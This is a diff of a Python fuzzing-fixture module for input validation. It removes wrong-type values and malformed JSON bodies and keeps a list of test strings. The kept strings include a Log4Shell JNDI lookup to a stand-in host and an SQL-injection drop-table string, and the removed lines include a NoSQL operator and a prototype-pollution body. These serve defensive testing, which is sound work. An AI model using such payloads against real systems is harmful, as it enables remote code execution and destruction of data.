@@ -3,9 +3,6 @@
 import json
 from typing import Any
 
-NOT_TEXTS: list[Any] = [None, 1, 1.5, True, [], ["a"], {}, {"$ne": ""}, [["a"] * 3]]
-"""Values of the wrong type for a text field. None is absent: it is allowed in an optional field."""
-
 TEXTS = [
     "",
     " ",
@@ -24,22 +21,6 @@ TEXTS = [
     "${jndi:ldap://evil.example}",
     "'; DROP TABLE users; --",
 ]
-
-BODIES = [
-    b"",
-    b"null",
-    b"[]",
-    b'"text"',
-    b"1e999",
-    b"{",
-    b'{"a":' * 5000 + b"1" + b"}" * 5000,
-    b"[" * 100_000,
-    b"\xff\xfe",
-    b'{"email": NaN}',
-    b'{"\\ud800": 1}',
-    b'{"__proto__": {"email": "a@b.de"}}',
-]
-"""Whole bodies, as bytes."""
 
 
 def with_lone_surrogate(body: dict[str, Any], field: str) -> bytes:
